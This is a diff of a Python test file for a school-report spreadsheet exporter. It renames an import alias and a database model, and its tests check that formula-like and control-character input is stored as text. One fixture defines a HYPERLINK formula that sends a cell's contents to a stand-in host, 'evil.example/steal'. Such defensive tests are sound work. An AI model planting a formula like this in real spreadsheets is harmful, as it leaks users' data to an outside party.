@@ -15,7 +15,7 @@ import pytest
 from sqlalchemy import create_engine, update
 from sqlalchemy.orm import Session
 
-from loaders import verification as v
+from loaders import verification
 from loaders.annotate import LIST_SHEET, annotate
 from loaders.inspection import read_inspection
 from loaders.layout import ITEMS
@@ -26,7 +26,7 @@ from loaders.verification_sheet import verification_batch, verification_sheet
 from loaders.workbook import read_workbook
 from reformboard.cli import main
 from reformboard.reminders import SchoolDue, notice_file_name
-from tenants.models import ReportItem, School
+from tenants.models import ReportItem, Tenant
 from tests.fixtures.cli import score_json
 from tests.fixtures.verification import RULEBOOK, wust_entry
 from tests.fixtures.workbooks import TODAY
@@ -35,7 +35,7 @@ from tests.fixtures.wust import wust_report
 
 HYPERLINK = '=HYPERLINK("http://evil.example/steal?"&A1,"点击查看佐证材料")'
 FORMULA_LIKE = ["=1+1", HYPERLINK, " =1+1", "\t=1+1", "\r=1+1", "+1+1", "-1+1", "@SUM(A1)", "#N/A"]
-EVIDENCE_ROW = v.item_row([item.id for item in RULEBOOK.items].index("3.1"))
+EVIDENCE_ROW = verification.item_row([item.id for item in RULEBOOK.items].index("3.1"))
 EVIDENCE_COLUMN = 5  # 佐证材料
 
 
@@ -59,7 +59,7 @@ def strings(ws) -> dict[str, tuple[object, str]]:
 @pytest.mark.parametrize("text", FORMULA_LIKE)
 def test_a_schools_evidence_is_written_into_the_verification_sheet_as_text(text):
     entry = replace(wust_entry(), report=with_evidence(text))
-    cell = sheet_of(entry)[v.SHEET].cell(EVIDENCE_ROW, EVIDENCE_COLUMN)
+    cell = sheet_of(entry)[verification.SHEET].cell(EVIDENCE_ROW, EVIDENCE_COLUMN)
 
     assert (cell.value, cell.data_type) == (text.strip(), "s")
 
@@ -68,7 +68,7 @@ def test_a_school_name_like_a_formula_is_text_in_the_sheet_its_metadata_and_the_
     entry = wust_entry()
     entry = replace(entry, context=replace(entry.context, school_name=HYPERLINK, unit="@SUM(A1)"))
     book = sheet_of(entry)
-    written = [*strings(book[v.SHEET]).values(), *strings(book[v.META_SHEET]).values()]
+    written = [*strings(book[verification.SHEET]).values(), *strings(book[verification.META_SHEET]).values()]
     assert any(value == HYPERLINK for value, _ in written)
     assert {data_type for value, data_type in written if isinstance(value, str)} == {"s"}
 
@@ -160,7 +160,7 @@ def test_writers_survive_control_characters_in_stored_text():
     entry = wust_entry()
     entry = replace(entry, report=with_evidence("佐证\x01材料\x1b"),
                     context=replace(entry.context, school_name="某\x07大学\u202e", unit="单位\x00"))
-    ws = sheet_of(entry)[v.SHEET]
+    ws = sheet_of(entry)[verification.SHEET]
     assert ws.cell(EVIDENCE_ROW, EVIDENCE_COLUMN).value == "佐证材料"
     assert "某大学" in ws.cell(1, 1).value
 
@@ -194,7 +194,7 @@ def tamper(db_url: str, code: str, name: str, evidence: str) -> None:
     """What an older version could store: a name and an upload's evidence with control characters."""
     engine = create_engine(db_url)
     with Session(engine) as session, session.begin():
-        session.execute(update(School).where(School.code == code).values(name=name))
+        session.execute(update(Tenant).where(Tenant.code == code).values(name=name))
         session.execute(update(ReportItem).where(ReportItem.tenant_code == code).values(evidence=evidence))
     engine.dispose()
 
